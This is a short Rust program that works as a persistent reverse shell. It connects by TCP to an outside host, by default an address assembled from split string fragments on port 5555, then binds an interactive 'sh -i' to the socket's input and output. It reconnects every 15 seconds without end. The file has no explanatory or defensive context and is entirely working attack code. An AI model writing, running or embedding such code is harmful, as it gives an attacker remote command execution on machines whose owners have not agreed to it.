use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
use std::{thread, time::Duration};

fn attach(addr: &str) -> std::io::Result<()> {
    let sock = TcpStream::connect(addr)?;
    let fd = sock.as_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(libc::dup(fd)) };
    Command::new("sh").arg("-i").stdin(io()).stdout(io()).stderr(io()).status()?;
    Ok(())
}

fn main() {
    let host = std::env::args().nth(1).unwrap_or_else(|| ["192", "0", "2", "14"].join("."));
    loop {
        let _ = attach(&format!("{host}:5555"));
        thread::sleep(Duration::from_secs(15));
    }
}
